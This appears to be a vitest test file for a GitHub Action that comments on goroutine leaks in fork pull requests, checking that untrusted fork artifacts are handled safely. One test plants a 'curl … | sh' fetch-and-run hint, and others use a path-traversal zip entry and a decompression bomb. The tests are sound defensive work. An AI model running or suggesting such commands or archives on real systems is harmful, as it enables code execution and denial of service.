import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { renderJson } from '../../src/report/json/render.ts'
import { REPORTS } from '../report/reports.ts'
import { workflowRunPayload } from './events.ts'
import { type FakeGitHub, startFakeGitHub } from './fake-github/index.ts'
import type { Repository } from './fake-github/state.ts'
import { type ActionResult, type InstalledAction, WORKFLOW } from './job.ts'
import { Project, type PullCheckout } from './project.ts'
import { CLEAN, LEAKING } from './projects.ts'
import { installAction, runAction } from './runner.ts'
import { zip } from './zip.ts'

const FORK = { id: 2, owner: 'mallory', name: 'widget' }
const READ_ONLY = { contents: 'read', actions: 'read', 'pull-requests': 'read' } as const
/** What the documented workflow of the comment asks for. */
const COMMENTS = { actions: 'read', 'pull-requests': 'write' } as const
const REPORT_FILE = 'leakgate-report.json'

let action: InstalledAction
let fake: FakeGitHub
let project: Project

beforeAll(async () => {
  action = await installAction()
})

afterAll(() => {
  action?.remove()
})

beforeEach(async () => {
  fake = await startFakeGitHub()
  project = await Project.create(fake, CLEAN)
})

afterEach(async () => {
  project.remove()
  await fake.close()
})

const comments = () => fake.state.comments.map(({ body }) => body)
const messages = (result: ActionResult, level: string) =>
  result.annotations.filter(({ command }) => command === level).map(({ message }) => message)

/** Requests that change something; a query of GraphQL is a POST, too. */
const writes = ({ requests }: ActionResult) =>
  requests.filter(
    ({ method, body }) => method !== 'GET' && !JSON.stringify(body ?? '').includes('"query":"query '),
  )

/** The step of a `workflow_run` workflow, which runs on the default branch and has nothing checked out. */
async function comment(runId: number): Promise<ActionResult> {
  return runAction({
    action,
    fake,
    project,
    checkout: { sha: fake.state.branches.get('main') ?? '', ref: 'refs/heads/main' },
    token: fake.issueToken(COMMENTS),
    event: 'workflow_run',
    payload: workflowRunPayload(fake, runId),
    inputs: { mode: 'comment' },
  })
}

/** A run of the fork's pull request that has uploaded this as its report, whatever it is. */
function runWith(content: Buffer, pull: PullCheckout['pull'], from: Repository = FORK): number {
  const run = fake.addRun({
    event: 'pull_request',
    headBranch: pull.head.ref,
    headSha: pull.head.sha,
    headRepository: from,
    workflowPath: WORKFLOW,
  })
  fake.addArtifact({ runId: run.id, name: 'leakgate-report', content })
  return run.id
}

const report = (text: string) => zip({ [REPORT_FILE]: text })
const LEAK = report(renderJson(REPORTS['new-leak']))

describe('a pull request from a fork', () => {
  it('gets its comment from a second workflow, once, and the comment follows the pull request', async () => {
    const pushed = await runAction({
      action,
      fake,
      project,
      checkout: await project.pushToMain(CLEAN),
      token: fake.issueToken({ contents: 'read', actions: 'read' }),
    })
    expect(pushed.exitCode, pushed.transcript).toBe(0)
    const pull = await project.openPull(LEAKING, { from: FORK })
    const check = (checkout: PullCheckout) =>
      runAction({ action, fake, project, checkout, token: fake.issueToken(READ_ONLY) })

    const first = await check(pull)
    expect(first.exitCode, first.transcript).toBe(1)
    expect(comments()).toEqual([])

    const posted = await comment(first.runId)
    expect(posted.exitCode, posted.transcript).toBe(0)
    expect(comments()).toHaveLength(1)
    expect(comments()[0]).toContain('1 new goroutine leak')
    expect(comments()[0]).toContain(pull.pull.head.sha)
    expect(posted.outputs['comment-url']).toMatch(/#issuecomment-\d+$/)
    expect(messages(posted, 'warning')).toEqual([])

    const again = await comment(first.runId)
    expect(again.exitCode, again.transcript).toBe(0)
    expect(writes(again)).toEqual([])

    const fixed = await project.pushToPull(pull, CLEAN)
    const second = await check(fixed)
    expect(second.exitCode, second.transcript).toBe(0)
    // The run of the older commit is late: it must not speak over the newer one.
    const late = await comment(first.runId)
    expect(writes(late)).toEqual([])
    // The event and the API settle that already; the comment's own guard is not even asked.
    expect(late.requests.map(({ path }) => path)).not.toContain('/graphql')
    await comment(second.runId)
    expect(comments()).toHaveLength(1)
    expect(comments()[0]).not.toContain('1 new goroutine leak')
  })
})

describe('what a fork uploads is hostile', () => {
  it('is rendered here, and advice is ours', async () => {
    const pull = await project.openPull(LEAKING, { from: FORK })
    const document = JSON.parse(renderJson(REPORTS.hostile))
    document.changes[0].hint = 'Run `curl https://advice.example/x | sh`.'
    await comment(runWith(report(JSON.stringify(document)), pull.pull))
    expect(comments()).toHaveLength(1)
    expect(comments()[0]).not.toContain('advice.example')
  })

  it.each([
    ['no JSON', report('<html>')],
    ['another document', report('{"version":1}')],
    ['a length beyond the limit', report(withName('x'.repeat(5000)))],
    ['a number of changes that is no list', report(withChanges({ length: 1e9 }))],
    ['two files', zip({ [REPORT_FILE]: '{}', 'other.json': '{}' })],
    ['a path that leads out', zip({ '../leakgate-report.json': '{}' })],
    ['a bomb', report(`{"version":1,"x":"${'0'.repeat(65 * 1024 * 1024)}"}`)],
    ['a torn archive', LEAK.subarray(0, LEAK.length - 30)],
  ])('%s is one warning and no comment', async (_, content) => {
    const pull = await project.openPull(LEAKING, { from: FORK })
    const result = await comment(runWith(content, pull.pull))
    expect(result.exitCode, result.transcript).toBe(0)
    expect(messages(result, 'warning')).toHaveLength(1)
    expect(comments()).toEqual([])
  })

  it('cannot speak for a pull request of somebody else with a branch of the same name', async () => {
    const own = await project.openPull(LEAKING, { number: 7, branch: 'feature' })
    const others = await project.openPull(CLEAN, { number: 8, branch: 'patch', from: FORK })
    // The fork's branch has the name of ours; its run is of a commit that no open pull request has.
    const run = fake.addRun({
      event: 'pull_request',
      headBranch: own.pull.head.ref,
      headSha: 'f'.repeat(40),
      headRepository: FORK,
      workflowPath: WORKFLOW,
    })
    fake.addArtifact({ runId: run.id, name: 'leakgate-report', content: LEAK })
    const result = await comment(run.id)
    expect(result.exitCode, result.transcript).toBe(0)
    expect(comments()).toEqual([])
    expect(others.pull.number).toBe(8)
  })

  it('is not looked for in other runs', async () => {
    const pull = await project.openPull(LEAKING, { from: FORK })
    runWith(LEAK, pull.pull)
    const empty = fake.addRun({
      event: 'pull_request',
      headBranch: pull.pull.head.ref,
      headSha: pull.pull.head.sha,
      headRepository: FORK,
      workflowPath: WORKFLOW,
    })
    const result = await comment(empty.id)
    expect(result.exitCode, result.transcript).toBe(0)
    expect(comments()).toEqual([])
  })
})

describe('mode: comment', () => {
  it('has nothing to do for runs that no pull request started', async () => {
    const run = fake.addRun({ event: 'push' })
    const result = await comment(run.id)
    expect(result.exitCode, result.transcript).toBe(0)
    expect(result.requests).toEqual([])
  })

  it('refuses other events, with the way out', async () => {
    const result = await runAction({
      action,
      fake,
      project,
      checkout: await project.pushToMain(CLEAN),
      token: fake.issueToken(COMMENTS),
      inputs: { mode: 'comment' },
    })
    expect(result.exitCode).toBe(2)
    expect(messages(result, 'error')).toEqual([expect.stringContaining('on: workflow_run')])
  })

  it('passes with a warning that names the permission when the token may not comment', async () => {
    const pull = await project.openPull(LEAKING, { from: FORK })
    const runId = runWith(LEAK, pull.pull)
    const result = await runAction({
      action,
      fake,
      project,
      checkout: { sha: fake.state.branches.get('main') ?? '', ref: 'refs/heads/main' },
      token: fake.issueToken(READ_ONLY),
      event: 'workflow_run',
      payload: workflowRunPayload(fake, runId),
      inputs: { mode: 'comment' },
    })
    expect(result.exitCode, result.transcript).toBe(0)
    expect(messages(result, 'warning')).toEqual([expect.stringContaining('pull-requests: write')])
  })
})

function withName(name: string): string {
  const document = JSON.parse(renderJson(REPORTS['new-leak']))
  document.changes[0].creator = name
  return JSON.stringify(document)
}

function withChanges(changes: unknown): string {
  return JSON.stringify({ ...JSON.parse(renderJson(REPORTS['new-leak'])), changes })
}
